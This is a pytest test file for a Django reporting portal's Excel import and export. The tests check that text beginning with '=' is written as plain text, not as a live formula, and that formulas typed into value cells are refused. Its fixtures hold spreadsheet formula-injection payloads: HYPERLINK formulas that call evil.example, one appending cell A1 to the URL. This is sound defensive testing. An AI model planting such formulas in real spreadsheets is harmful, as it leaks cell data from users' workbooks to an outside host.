"""Text the portal writes into a workbook is a text cell whatever it starts with: a proposal
typed as =HYPERLINK(…), a document number =1+1 or a union named "=…" never comes out as a
live formula, and the portal's own file uploaded unchanged is taken back. A formula a person
types where a value belongs is still refused."""
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.models import Report, ReportingPeriod, ValueChange
from reporting.periods import period_generate_reports
from reporting.selectors import report_values
from reporting.services import report_save
from reporting.spreadsheets import BULK_SHEET, REPORT_SHEET, bulk_workbook, bulk_workbook_upload, report_workbook
from tests.factories import make_union, make_user
from tests.reporting.values import by_code, complete_values
from tests.spreadsheets.conftest import bulk_layout, fill_bulk, fill_template, template_rows
from tests.spreadsheets.helpers import upload
from unions.spreadsheets import union_import_plan, union_rows_read, unions_export
from workbooks.reading import WorkbookRefused

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
SUM = "=1+1"
EVIL_NAME = '=HYPERLINK("http://evil.example/","Công đoàn Công ty Biển Xanh")'


@pytest.fixture
def evil(plan, tree):
    """A grassroots union named "=…" under upper_a, and its saved report with "=…" texts."""
    unit = make_union(tree["upper_a"], name=EVIL_NAME)
    period = ReportingPeriod.objects.get(plan=plan, code="2023-Y")
    period_generate_reports(period=period)
    report = Report.objects.get(period=period, unit=unit)
    make_user(unit, username="cdcs_evil")
    report_save(report=report, by=unit.officers.get(), values=complete_values(report, PROPOSALS=HYPERLINK, CT2_DOC_NUMBER=SUM),
                version=report.version)
    report.refresh_from_db()
    return report


def _text_cells(content: bytes, sheet: str) -> dict[str, str]:
    """Every cell of `sheet` holding one of the hostile texts, with its type."""
    book = load_workbook(io.BytesIO(content))
    return {c.value: c.data_type for row in book[sheet].iter_rows() for c in row
            if isinstance(c.value, str) and c.value in (HYPERLINK, SUM, EVIL_NAME)}


def test_the_report_template_writes_formula_like_text_as_text_and_takes_it_back(client, evil, tree):
    officer = evil.unit.officers.get()
    content = report_workbook(report=evil)
    assert _text_cells(content, REPORT_SHEET) == {HYPERLINK: "s", SUM: "s", EVIL_NAME: "s"}
    assert b"<f>" not in _sheet_xml(content)  # no formula anywhere in the file
    client.force_login(officer)
    changes = ValueChange.objects.filter(report=evil).count()
    response = client.post(reverse("reporting:report_workbook_upload", args=[evil.pk]),
                           {"file": upload(content, "bao-cao.xlsx")})
    assert response.status_code == 302, response.content.decode()[:2000]
    assert ValueChange.objects.filter(report=evil).count() == changes  # taken back with no change
    saved = by_code(evil, report_values(report=evil))
    assert saved["PROPOSALS"] == HYPERLINK and saved["CT2_DOC_NUMBER"] == SUM


def test_a_formula_typed_where_a_value_belongs_is_still_refused(client, evil):
    officer = evil.unit.officers.get()
    content = report_workbook(report=evil)
    rows = template_rows(content)
    typed = fill_template(content, raw={f"C{rows['PROPOSALS']}": "=A1"})  # openpyxl writes it as a formula
    client.force_login(officer)
    response = client.post(reverse("reporting:report_workbook_upload", args=[evil.pk]),
                           {"file": upload(typed, "bao-cao.xlsx")})
    assert response.status_code == 400
    assert f"C{rows['PROPOSALS']}" in response.content.decode()


def test_one_units_formula_like_text_no_longer_blocks_the_districts_bulk_upload(users, evil, tree, open_reports):
    period = evil.period
    content = bulk_workbook(period=period, by=users["upper_a"])
    assert _text_cells(content, BULK_SHEET) == {HYPERLINK: "s", SUM: "s", EVIL_NAME: "s"}
    assert b"<f>" not in _sheet_xml(content)
    # Unchanged: taken, nothing saved.
    result = bulk_workbook_upload(period=period, by=users["upper_a"], upload=upload(content))
    assert result.saved == [] and result.unchanged >= 1
    # Another unit's row filled in beside the "=" unit's row: saved, the "=" row left as it was.
    a1 = open_reports["grass_a1"]
    filled = fill_bulk(content, {tree["grass_a1"].code: {"CT1_DONE": True}})
    result = bulk_workbook_upload(period=period, by=users["upper_a"], upload=upload(filled))
    assert result.saved == [a1.pk]
    assert by_code(evil, report_values(report=evil))["PROPOSALS"] == HYPERLINK


def test_the_boards_province_workbook_writes_formula_like_text_as_text(client, users, evil):
    report_save(report=evil, by=evil.unit.officers.get(), values=report_values(report=evil), version=evil.version,
                submit=True)  # proposals are gathered from sent reports
    client.force_login(users["board"])
    response = client.get(reverse("reporting:export"), {"period": "2023-Y", "format": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    book = load_workbook(io.BytesIO(content))
    found = {(sheet.title, c.value): c.data_type for sheet in book.worksheets for row in sheet.iter_rows()
             for c in row if isinstance(c.value, str) and c.value in (HYPERLINK, SUM, EVIL_NAME)}
    assert found[("Đề xuất, kiến nghị", HYPERLINK)] == "s"
    assert found[("Đề xuất, kiến nghị", EVIL_NAME)] == "s"
    assert found[("Từng đơn vị", EVIL_NAME)] == "s" and found[("Từng đơn vị", SUM)] == "s"
    assert b"<f>" not in _sheet_xml(content)


def test_the_hierarchy_export_writes_a_name_starting_with_equals_as_text_and_reads_it_back(tree):
    from unions.models import Union

    make_union(tree["upper_a"], name=EVIL_NAME)
    make_union(tree["upper_b"], name="#N/A")
    content = unions_export(units=Union.objects.all())
    book = load_workbook(io.BytesIO(content))
    names = {c.value: c.data_type for row in book.worksheets[0].iter_rows() for c in row}
    assert names[EVIL_NAME] == "s" and names["#N/A"] == "s"
    assert b"<f>" not in _sheet_xml(content)
    plan = union_import_plan(sheet=union_rows_read(upload(content)), on=tree["province"].opened_on)
    assert plan.errors == [] and plan.changes == []


def test_characters_a_workbook_cannot_hold_are_dropped_not_a_failed_download(evil):
    report_save(report=evil, by=evil.unit.officers.get(), values={**report_values(report=evil), _pk(evil, "PROPOSALS"): "a\x07b\x1bc"},
                version=evil.version)
    evil.refresh_from_db()
    book = load_workbook(io.BytesIO(report_workbook(report=evil)))
    assert "abc" in [c.value for row in book[REPORT_SHEET].iter_rows() for c in row]


def _pk(report, code):
    from reporting.selectors import report_indicators

    return next(i.pk for i in report_indicators(report=report) if i.code == code)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_refusal_is_still_whole_for_a_formula_in_the_bulk_workbook(users, evil):
    content = bulk_workbook(period=evil.period, by=users["upper_a"])
    columns, rows = bulk_layout(content)
    ref = f"{load_workbook(io.BytesIO(content))[BULK_SHEET].cell(1, columns['PROPOSALS']).column_letter}" \
          f"{rows[evil.unit.code]}"
    with pytest.raises(WorkbookRefused, match=ref):
        bulk_workbook_upload(period=evil.period, by=users["upper_a"], upload=upload(fill_bulk(content, {}, raw={ref: "=B2"})))


def test_a_version_in_the_meta_sheet_that_is_not_plain_digits_is_refused_not_a_crash(client, evil):
    from tests.spreadsheets.helpers import edit

    content = edit(report_workbook(report=evil), {"B8": "²"}, sheet="_meta")  # the report's version
    assert load_workbook(io.BytesIO(content))["_meta"]["A8"].value == "version"
    client.force_login(evil.unit.officers.get())
    response = client.post(reverse("reporting:report_workbook_upload", args=[evil.pk]),
                           {"file": upload(content, "bao-cao.xlsx")})
    assert response.status_code == 400


def test_the_template_resaved_by_libreoffice_still_holds_the_texts_and_is_taken_back(client, evil, tmp_path):
    """As an officer's office suite would: LibreOffice Calc opens the file and saves it again."""
    import shutil
    import subprocess

    from tests.live_services import unavailable

    if shutil.which("soffice") is None:
        unavailable("LibreOffice is not installed: apt-get install libreoffice-calc-nogui")
    source = tmp_path / "in" / "bao-cao.xlsx"
    source.parent.mkdir()
    source.write_bytes(report_workbook(report=evil))
    subprocess.run(["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "out"), str(source)],
                   capture_output=True, timeout=180, check=True)
    resaved = (tmp_path / "out" / "bao-cao.xlsx").read_bytes()
    assert _text_cells(resaved, REPORT_SHEET) == {HYPERLINK: "s", SUM: "s", EVIL_NAME: "s"}
    client.force_login(evil.unit.officers.get())
    changes = ValueChange.objects.filter(report=evil).count()
    response = client.post(reverse("reporting:report_workbook_upload", args=[evil.pk]),
                           {"file": upload(resaved, "bao-cao.xlsx")})
    assert response.status_code == 302
    assert ValueChange.objects.filter(report=evil).count() == changes
